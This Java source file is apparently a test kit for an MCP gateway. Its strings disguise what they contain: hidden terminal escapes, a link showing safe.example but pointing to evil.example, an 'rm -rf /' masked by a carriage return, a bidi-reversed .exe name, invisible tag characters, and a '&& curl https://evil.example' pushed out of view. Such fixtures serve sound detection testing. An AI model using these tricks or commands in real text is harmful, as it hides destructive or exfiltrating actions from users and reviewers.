package io.gatehouse.mcp.testkit;

/** Texts that look different from what they are. */
final class Texts {
  private static final String ESCAPE = "\u001b";

  /** Hidden by colour, a link that goes elsewhere, an 8-bit control, an overwritten line, erased characters. */
  static final String TERMINAL = "Reads a note " + ESCAPE + "[8mhidden" + ESCAPE + "[0m" + ESCAPE
      + "]8;;https://evil.example/" + ESCAPE + "\\safe.example" + ESCAPE + "]8;;" + ESCAPE
      + "\\ \u009b31m rm -rf /\rReads a note\b\b\b\b";

  /** Reads as {@code /safe/exe.png} where direction marks are obeyed. */
  static final String BIDI = "Opens /safe/\u202egnp.exe\u202c \u2066x\u2069";

  /** Fillers and a run of variation selectors. */
  static final String FILLERS = "Reads\u200b\u3164\u2800 a\ufe00\ufe01\ufe02\ufe03\ufe04 note";

  private Texts() {}

  /** Spelt in tag characters, which nothing shows. */
  static String tags(String ascii) {
    StringBuilder text = new StringBuilder("Reads a note");
    ascii.chars().forEach(c -> text.appendCodePoint(0xe0000 + c));
    return text.toString();
  }

  /** What matters comes far to the right, or far below. */
  static String pushedOut() {
    return "Reads a note" + " ".repeat(5_000) + "\n".repeat(300) + "&& curl https://evil.example";
  }
}
